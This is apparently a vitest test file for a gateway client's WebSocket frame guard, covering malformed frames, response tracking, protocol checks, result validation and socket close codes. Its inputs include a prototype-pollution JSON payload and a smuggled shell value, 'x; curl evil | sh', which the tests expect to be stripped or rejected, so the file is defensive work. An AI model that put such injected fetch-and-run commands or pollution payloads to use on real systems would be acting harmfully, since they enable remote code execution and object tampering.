import { describe, expect, it } from 'vitest';
import { MAX_DEPTH, checkEvent, createRequestTracker, helloProblem, inspectFrame, noteOutgoing } from './frame-guard';
import { checkResult } from './methods';
import { closeSocket } from './gateway';

const HELLO = { protocolRange: { min: 3, max: 4 } };

function tracker(open: Record<string, string> = {}) {
  const t = createRequestTracker();
  for (const [id, method] of Object.entries(open))
    noteOutgoing(t, JSON.stringify({ type: 'req', id, method, params: {} }));
  return t;
}
const inspect = (frame: unknown, t = tracker()) =>
  inspectFrame(typeof frame === 'string' ? frame : JSON.stringify(frame), t, HELLO);

describe('inspectFrame', () => {
  it('passes a well-formed event and a response to an open request unchanged', () => {
    const raw = JSON.stringify({ type: 'event', event: 'tick', payload: { ts: 1 }, seq: 3 });
    expect(inspectFrame(raw, tracker(), HELLO)).toEqual({ frame: raw, problems: [] });
    const res = JSON.stringify({ type: 'res', id: '1:a', ok: true, payload: { jobs: [] } });
    expect(inspectFrame(res, tracker({ '1:a': 'cron.list' }), HELLO)).toEqual({ frame: res, problems: [] });
  });

  it('drops what the wire client would silently ignore, and says why', () => {
    expect(inspect('{oops').problems).toEqual(['unparseable frame ignored (5 chars, not JSON)']);
    expect(inspect('[1]')).toEqual({ frame: null, problems: ['frame ignored: an array, not an object'] });
    expect(inspect({ type: 'nope' }).problems).toEqual(['frame ignored: unknown type "nope"']);
    expect(inspect({ type: 'event', event: '' }).problems).toEqual(['event frame ignored: its name is a string']);
    expect(inspect({ type: 'event', event: 'tick', seq: 1.5 }).problems[0]).toMatch(/invalid seq/);
    expect(inspect({ type: 'res', ok: true }).problems).toEqual(['response ignored: it has no request id']);
  });

  it('names responses to unknown ids, duplicates and late answers', () => {
    const t = tracker({ '1:a': 'cron.list', '2:b': 'cron.add' });
    expect(inspect({ type: 'res', id: 'zzz', ok: true }, t).problems).toEqual([
      'response to unknown request id ignored',
    ]);
    t.settle('1:a', 'cron.list');
    expect(inspect({ type: 'res', id: '1:a', ok: true }, t)).toEqual({
      frame: null,
      problems: ['duplicate response to cron.list ignored'],
    });
    t.settle('2:b', 'cron.add', 'CLIENT_TIMEOUT');
    expect(inspect({ type: 'res', id: '2:b', ok: true }, t).problems).toEqual([
      'late response to cron.add ignored: it timed out before the answer came',
    ]);
  });

  it('turns a malformed answer to our own request into an error, so the call fails now instead of timing out', () => {
    const t = tracker({ '1:a': 'config.get' });
    const noOk = inspect({ type: 'res', id: '1:a', payload: {} }, t);
    expect(JSON.parse(noOk.frame!)).toMatchObject({
      type: 'res',
      id: '1:a',
      ok: false,
      error: { code: 'INVALID_RESPONSE' },
    });
    const badError = inspect(
      {
        type: 'res',
        id: '1:a',
        ok: false,
        error: { code: 5, message: 'kept', retryAfterMs: -3, details: { code: 'X' } },
      },
      t,
    );
    expect(JSON.parse(badError.frame!).error).toEqual({
      code: 'INVALID_RESPONSE',
      message: 'kept',
      details: { code: 'X' },
    });
    expect(badError.problems).toEqual(['malformed error in the response to config.get']);
  });

  it('removes prototype-pollution keys at any depth and never touches Object.prototype', () => {
    const raw =
      '{"type":"event","event":"presence","payload":{"__proto__":{"polluted":1},"presence":[{"constructor":{"prototype":{"polluted":1}},"host":"h","nested":{"__proto__":{"polluted":1}}}]}}';
    const v = inspect(raw);
    const out = JSON.parse(v.frame!);
    expect(Object.keys(out.payload)).toEqual(['presence']);
    expect(out.payload.presence[0]).toEqual({ host: 'h', nested: {} });
    expect(v.problems).toEqual([
      'dropped a "__proto__" key at payload (prototype pollution attempt)',
      'dropped a "constructor" key at payload.presence[0] (prototype pollution attempt)',
      'dropped a "__proto__" key at payload.presence[0].nested (prototype pollution attempt)',
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    // A "constructor" key holding plain text is data (a config key may be called that).
    expect(inspect({ type: 'event', event: 'tick', payload: { constructor: 'x' } }).problems).toEqual([]);
  });

  it(`refuses nesting deeper than ${MAX_DEPTH} levels without recursing into it`, () => {
    const deep = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
    expect(inspect(`{"type":"event","event":"health","payload":${deep(200_000)}}`)).toEqual({
      frame: null,
      problems: [`event "health" ignored: nested deeper than ${MAX_DEPTH} levels`],
    });
    const ok = inspect(`{"type":"event","event":"health","payload":${deep(MAX_DEPTH - 2)}}`);
    expect(ok.problems).toEqual([]);
    const res = inspect(`{"type":"res","id":"1:a","ok":true,"payload":${deep(500)}}`, tracker({ '1:a': 'config.get' }));
    expect(JSON.parse(res.frame!).error.code).toBe('INVALID_RESPONSE');
  });

  it('notes large frames but still uses them', () => {
    const v = inspect({ type: 'event', event: 'tick', payload: { x: 'y'.repeat(3 << 20) } });
    expect(v.frame).not.toBeNull();
    expect(v.problems).toEqual(['large frame: 3.0 MiB']);
  });

  it('never quotes frame content in a problem (frames can carry tokens)', () => {
    const secret = 'SECRET-device-token-value';
    const frames = [
      `{"auth":{"deviceToken":"${secret}"`,
      `[{"deviceToken":"${secret}"}]`,
      { type: `${secret}!` },
      { type: 'event', event: `<${secret}>` },
      { type: 'res', id: secret, ok: true },
      { type: 'res', id: '1:a', ok: false, error: { code: 1, message: secret } },
    ];
    for (const f of frames) expect(inspect(f, tracker({ '1:a': 'x' })).problems.join(' ')).not.toContain(secret);
  });
});

describe('hello checks', () => {
  it('refuses a hello that is not an object or has no protocol, and names an unsupported protocol and version', () => {
    expect(helloProblem(null, HELLO)?.code).toBe('INVALID_HELLO');
    expect(helloProblem({ protocol: '4' }, HELLO)?.code).toBe('INVALID_HELLO');
    expect(helloProblem({ protocol: 5, server: { version: '2027.1.0' } }, HELLO)).toEqual({
      code: 'PROTOCOL_MISMATCH',
      message:
        'protocol mismatch: gateway version 2027.1.0 chose protocol 5; clawscope supports protocols 3–4 (OpenClaw 2026.3.x–2026.9.x).',
    });
    expect(helloProblem({ protocol: 3 }, HELLO)).toBeNull();
  });

  it('rewrites a bad hello into a connect error', () => {
    const v = inspect({ type: 'res', id: 'c', ok: true, payload: 'hi' }, tracker({ c: 'connect' }));
    expect(JSON.parse(v.frame!)).toMatchObject({
      ok: false,
      error: { code: 'INVALID_HELLO', details: { code: 'INVALID_HELLO' } },
    });
  });
});

describe('checkEvent', () => {
  it('delivers known events with usable payloads, drops the rest, and logs each unknown name once', () => {
    const seen = new Set<string>();
    expect(checkEvent('presence', { presence: [] }, seen)).toEqual({ deliver: true });
    expect(checkEvent('presence', { presence: {} }, seen).deliver).toBe(false);
    expect(checkEvent('cron', null, seen)).toEqual({
      deliver: false,
      problem: 'invalid payload for event "cron": null, not an object',
    });
    expect(checkEvent('chat', 'anything', seen)).toEqual({ deliver: true });
    expect(checkEvent('x.new', {}, seen)).toEqual({ deliver: false, problem: 'unknown event "x.new" ignored' });
    expect(checkEvent('x.new', {}, seen)).toEqual({ deliver: false });
  });
});

describe('checkResult', () => {
  it('fails an answer of the wrong kind with a reason', () => {
    expect(checkResult('cron.list', 'x')).toMatchObject({
      ok: false,
      message: "The gateway's answer to cron.list was not usable: result is a string, not an object.",
    });
    expect(checkResult('system-presence', null)).toMatchObject({
      ok: false,
      message: expect.stringMatching(/result is null, not a list/),
    });
  });

  it('drops list items without an identity and fields of the wrong type, keeping everything else', () => {
    const good = {
      id: 'j',
      name: 'n',
      schedule: { kind: 'every', everyMs: 1000 },
      payload: { kind: 'systemEvent', text: 't' },
      extra: { kept: true },
    };
    const r = checkResult('cron.list', {
      jobs: [
        good,
        { ...good, id: '' },
        { ...good, id: 'k', name: { html: 1 } },
        { ...good, id: 'l', schedule: { kind: 'every' } },
      ],
      total: 'many',
    });
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const value = r.value as { jobs: Record<string, unknown>[]; total?: unknown };
    expect(value.jobs.map((j) => j.id)).toEqual(['j', 'k']);
    expect(value.jobs[0]).toBe(good);
    expect(value.jobs[1]).not.toHaveProperty('name');
    expect(value).not.toHaveProperty('total');
    expect(r.problems).toEqual([
      'dropped result.jobs[1]: result.jobs[1].id is not a valid job id',
      'result.jobs[2].name is an object, not text: ignored',
      'dropped result.jobs[3]: result.jobs[3].schedule.everyMs is missing',
      'result.total is a string, not a number: ignored',
    ]);
  });

  it('only lets request ids of the gateway format through (they end up in a copyable shell command)', () => {
    expect(checkResult('device.scopes.requestUpgrade', { requestId: 'ok-1' }).ok).toBe(true);
    expect(checkResult('device.scopes.requestUpgrade', { requestId: 'x; curl evil | sh' }).ok).toBe(false);
  });

  it('passes methods it has no shape for', () => {
    expect(checkResult('some.new.method', 5)).toEqual({ ok: true, value: 5, problems: [] });
  });
});

describe('closeSocket', () => {
  it('maps codes a browser may not send and trims the reason to 123 bytes', () => {
    const calls: unknown[][] = [];
    const ws = { close: (...a: unknown[]) => void calls.push(a) };
    closeSocket(ws, 1008, 'connect challenge missing nonce');
    closeSocket(ws, 1000, 'é'.repeat(100));
    closeSocket(ws, 4001, 'x');
    closeSocket(ws, 1001, 'y');
    expect(calls[0]).toEqual([4008, 'connect challenge missing nonce']);
    expect(new TextEncoder().encode(calls[1]![1] as string).length).toBeLessThanOrEqual(123);
    expect(calls[2]).toEqual([4001, 'x']);
    expect(calls[3]).toEqual([4000, 'y']); // never our own 4001: that code means "device removed"
    expect(() =>
      closeSocket(
        {
          close: (c?: number) => {
            if (c !== undefined) throw new DOMException('bad', 'InvalidAccessError');
          },
        },
        4999,
      ),
    ).not.toThrow();
  });
});
